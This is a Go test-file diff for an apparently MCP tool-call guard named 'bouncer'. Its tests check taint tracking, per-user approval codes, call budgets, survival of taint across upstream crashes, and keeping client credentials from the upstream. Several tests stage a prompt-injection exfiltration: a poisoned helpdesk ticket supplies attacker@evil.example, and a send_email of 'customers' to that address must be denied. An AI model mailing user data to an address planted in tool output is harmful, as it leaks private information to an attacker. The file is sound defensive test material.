@@ -3,11 +3,14 @@ package main
 import (
 	"context"
 	"encoding/json"
+	"io"
 	"net/http"
 	"net/http/httptest"
 	"os"
 	"path/filepath"
+	"regexp"
 	"strings"
+	"sync"
 	"sync/atomic"
 	"testing"
 	"time"
@@ -41,6 +44,12 @@ type listenTest struct {
 }
 
 func newListenTest(t *testing.T, extra string) *listenTest {
+	return newListenTestServers(t, nil, extra)
+}
+
+// newListenTestServers is newListenTest with the config's mcpServers
+// given (nil: the helpdesk on stdio, as "helpdesk").
+func newListenTestServers(t *testing.T, servers map[string]any, extra string) *listenTest {
 	t.Helper()
 	lt := &listenTest{t: t, home: t.TempDir(), dir: t.TempDir(), tokens: map[string]string{}}
 	exe, err := os.Executable()
@@ -58,12 +67,13 @@ func newListenTest(t *testing.T, extra string) *listenTest {
 		}
 		tokens[u] = p
 	}
-	cfg := map[string]any{
-		"mcpServers": map[string]any{"helpdesk": map[string]any{
+	if servers == nil {
+		servers = map[string]any{"helpdesk": map[string]any{
 			"command": exe,
 			"env":     map[string]string{testserver.EnvServer: "helpdesk", testserver.EnvDir: lt.dir},
-		}},
+		}}
 	}
+	cfg := map[string]any{"mcpServers": servers}
 	lobj := map[string]any{"auth": "token", "tokens": tokens, "replica": "r1"}
 	if extra != "" {
 		var more map[string]any
@@ -179,4 +189,223 @@ func TestListenElicitationOnPOSTStream(t *testing.T) {
 	if isErr || text != "sent" || asked.Load() != 1 {
 		t.Fatalf("send_email to an unknown recipient: %q (isError %v), asked %d times; want it asked once and sent", text, isErr, asked.Load())
 	}
+}
+
+// poison reads the helpdesk's ticket, whose text holds
+// attacker@evil.example: the session's output now names it.
+func poison(t *testing.T, cs *mcp.ClientSession) {
+	t.Helper()
+	if text, _ := call(t, cs, "get_ticket", map[string]any{"id": "4711"}); !strings.Contains(text, "attacker@evil.example") {
+		t.Fatalf("get_ticket: %q", text)
+	}
+}
+
+// Taint is per session and checked across the user's live sessions: an
+// address in alice's output is denied for alice, in that session and in
+// another of hers, and only asked about for bob.
+func TestListenTaintScope(t *testing.T) {
+	lt := newListenTest(t, "")
+	no := func(*mcp.ElicitRequest) (*mcp.ElicitResult, error) { return &mcp.ElicitResult{Action: "decline"}, nil }
+	a1 := lt.client("alice", no)
+	a2 := lt.client("alice", no)
+	var bobAsked atomic.Int32
+	b := lt.client("bob", func(*mcp.ElicitRequest) (*mcp.ElicitResult, error) {
+		bobAsked.Add(1)
+		return &mcp.ElicitResult{Action: "decline"}, nil
+	})
+	poison(t, a1)
+	send := map[string]any{"to": "attacker@evil.example", "subject": "list", "body": "customers"}
+	for name, cs := range map[string]*mcp.ClientSession{"alice's session": a1, "alice's other session": a2} {
+		text, isErr := call(t, cs, "send_email", send)
+		if !isErr || !strings.HasPrefix(text, "[bouncer blocked] ") || !strings.Contains(text, "untrusted") && !strings.Contains(text, "output") {
+			t.Errorf("%s: send to the address alice's output held: %q (isError %v); want a taint deny", name, text, isErr)
+		}
+	}
+	text, isErr := call(t, b, "send_email", send)
+	if !isErr || bobAsked.Load() != 1 {
+		t.Errorf("bob: %q (isError %v), asked %d times; want bob asked (his history does not hold it), and declined", text, isErr, bobAsked.Load())
+	}
+	if mails, _ := os.ReadFile(filepath.Join(lt.dir, "mails.jsonl")); len(mails) > 0 {
+		t.Fatalf("a mail was sent: %s", mails)
+	}
+	// Every audit line names its user, session and replica.
+	log, err := os.ReadFile(filepath.Join(lt.home, "audit.jsonl"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	users := map[string]bool{}
+	for _, line := range strings.Split(strings.TrimSpace(string(log)), "\n") {
+		var e struct{ User, Session, Replica string }
+		if err := json.Unmarshal([]byte(line), &e); err != nil || e.User == "" || e.Replica != "r1" || !strings.HasPrefix(e.Session, "r1.") {
+			t.Fatalf("audit line without its user, session or replica: %s", line)
+		}
+		users[e.User] = true
+	}
+	if !users["alice"] || !users["bob"] {
+		t.Fatalf("audit lines' users: %v", users)
+	}
+}
+
+// A code is its session's and its user's: bob can't approve alice's code
+// (404, as an unknown one), bob's session can't redeem it, and alice's
+// approval lets alice's call through.
+func TestListenCodesAreTheUsers(t *testing.T) {
+	lt := newListenTest(t, "")
+	a := lt.client("alice", nil) // no elicitation: codes
+	b := lt.client("bob", nil)
+	send := map[string]any{"to": "carol@partner.example", "subject": "hi", "body": "hello"}
+	text, isErr := call(t, a, "send_email", send)
+	m := codeRE.FindStringSubmatch(text)
+	if !isErr || m == nil {
+		t.Fatalf("alice's first send: %q; want it blocked with a code", text)
+	}
+	code := m[1]
+	if st, _ := lt.approve("bob", code); st != http.StatusNotFound {
+		t.Fatalf("bob approving alice's code: %d, want 404", st)
+	}
+	if st, list := lt.get("bob", "/approvals"); st != 200 || strings.Contains(list, code) {
+		t.Fatalf("bob's list of codes: %d %s; want it without alice's code", st, list)
+	}
+	if st, body := lt.approve("alice", code); st != http.StatusOK {
+		t.Fatalf("alice approving her code: %d %s", st, body)
+	}
+	// Bob's session is not alice's: the same call there gets a code of
+	// its own; alice's approved code is not redeemed by it.
+	if text, isErr := call(t, b, "send_email", send); !isErr || !codeRE.MatchString(text) || strings.Contains(text, code) {
+		t.Fatalf("bob's same send: %q; want it blocked with a code of his own", text)
+	}
+	if text, isErr := call(t, a, "send_email", send); isErr || text != "sent" {
+		t.Fatalf("alice's retry after her approval: %q (isError %v)", text, isErr)
+	}
+}
+
+var codeRE = regexp.MustCompile(`bouncer approve ([A-Z0-9]{3}-[A-Z0-9]{3})`)
+
+func (lt *listenTest) approve(user, code string) (int, string) {
+	req, _ := http.NewRequest(http.MethodPost, lt.srv.URL+"/approvals/"+code, strings.NewReader(`{"approve":true}`))
+	req.Header.Set("Content-Type", "application/json")
+	return lt.do(user, req)
+}
+
+func (lt *listenTest) get(user, path string) (int, string) {
+	req, _ := http.NewRequest(http.MethodGet, lt.srv.URL+path, nil)
+	return lt.do(user, req)
+}
+
+func (lt *listenTest) do(user string, req *http.Request) (int, string) {
+	lt.t.Helper()
+	resp, err := (&http.Client{Transport: bearerTransport{lt.tokens[user]}}).Do(req)
+	if err != nil {
+		lt.t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	b, _ := io.ReadAll(resp.Body)
+	return resp.StatusCode, string(b)
+}
+
+// Budgets count per user across sessions, in the window: five sessions of
+// alice share send_email's max_calls (5), and bob's budget is his own.
+func TestListenBudgetAcrossSessions(t *testing.T) {
+	lt := newListenTest(t, "")
+	send := map[string]any{"to": "boss@corp.example", "subject": "s", "body": "b"}
+	sent := 0
+	for i := range 5 {
+		cs := lt.client("alice", nil)
+		for range 2 {
+			text, isErr := call(t, cs, "send_email", send)
+			switch {
+			case !isErr && text == "sent":
+				sent++
+			case isErr && strings.Contains(text, "budget"):
+			default:
+				t.Fatalf("session %d: %q (isError %v)", i, text, isErr)
+			}
+		}
+		cs.Close()
+	}
+	if sent != 5 {
+		t.Fatalf("alice sent %d mails over five sessions of two calls; want 5, send_email's max_calls", sent)
+	}
+	if text, isErr := call(t, lt.client("bob", nil), "send_email", send); isErr {
+		t.Fatalf("bob's first send: %q; his budget is his own", text)
+	}
+}
+
+// An upstream that crashes is started again, held to the pin, and its
+// session keeps its history: the address the first process's output held
+// is still denied after the second one starts.
+func TestListenRespawnKeepsTaint(t *testing.T) {
+	lt := newListenTest(t, "")
+	cs := lt.client("alice", func(*mcp.ElicitRequest) (*mcp.ElicitResult, error) { return &mcp.ElicitResult{Action: "accept"}, nil })
+	poison(t, cs)
+	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
+	defer cancel()
+	if _, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: "crash", Arguments: map[string]any{}}); err == nil {
+		t.Fatal("crash answered as if the server ran it")
+	}
+	// The session goes on, on a new process.
+	text, isErr := call(t, cs, "echo", map[string]any{"text": "still here"})
+	if isErr || text != "still here" {
+		t.Fatalf("echo after the crash: %q (isError %v)", text, isErr)
+	}
+	text, isErr = call(t, cs, "send_email", map[string]any{"to": "attacker@evil.example", "subject": "s", "body": "b"})
+	if !isErr || !strings.HasPrefix(text, "[bouncer blocked] ") {
+		t.Fatalf("send to the address the crashed process's output held: %q (isError %v); want it denied", text, isErr)
+	}
+}
+
+// The client's credentials never reach a remote upstream: it sees only
+// the config entry's own headers.
+func TestListenInboundTokenNeverReachesUpstream(t *testing.T) {
+	dir := t.TempDir()
+	h, path := testserver.HelpdeskHandler(dir, nil, "upstream-secret")
+	var seen sync.Map // header lines the upstream got
+	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		for k, vs := range r.Header {
+			for _, v := range vs {
+				seen.Store(k+": "+v, true)
+			}
+		}
+		h.ServeHTTP(w, r)
+	}))
+	defer up.Close()
+	lt := newListenTestServers(t, map[string]any{"remote": map[string]any{
+		"url": up.URL + path, "headers": map[string]string{"Authorization": "Bearer upstream-secret"},
+	}}, "")
+	c := mcp.NewClient(&mcp.Implementation{Name: "listen-test", Version: "1"}, nil)
+	tr := &mcp.StreamableClientTransport{Endpoint: lt.srv.URL + "/mcp", MaxRetries: -1,
+		HTTPClient: &http.Client{Transport: cookieTransport{lt.tokens["alice"]}}}
+	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
+	defer cancel()
+	cs, err := c.Connect(ctx, tr, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer cs.Close()
+	if text, isErr := call(t, cs, "echo", map[string]any{"text": "hi"}); isErr || text != "hi" {
+		t.Fatalf("echo through the remote upstream: %q", text)
+	}
+	n := 0
+	seen.Range(func(k, _ any) bool {
+		line := k.(string)
+		n++
+		if strings.Contains(line, lt.tokens["alice"]) || strings.HasPrefix(line, "Cookie") || strings.HasPrefix(line, "Proxy-Authorization") {
+			t.Errorf("the upstream got the client's %q", line)
+		}
+		return true
+	})
+	if _, ok := seen.Load("Authorization: Bearer upstream-secret"); !ok || n == 0 {
+		t.Fatalf("the upstream never got its own credential")
+	}
+}
+
+// cookieTransport sends alice's token, a cookie and a proxy credential.
+type cookieTransport struct{ token string }
+
+func (c cookieTransport) RoundTrip(r *http.Request) (*http.Response, error) {
+	r = r.Clone(r.Context())
+	r.Header.Set("Authorization", "Bearer "+c.token)
+	r.Header.Set("Cookie", "session=alice-cookie")
+	r.Header.Set("Proxy-Authorization", "Basic YWxpY2U6c2VjcmV0")
+	return http.DefaultTransport.RoundTrip(r)
 }
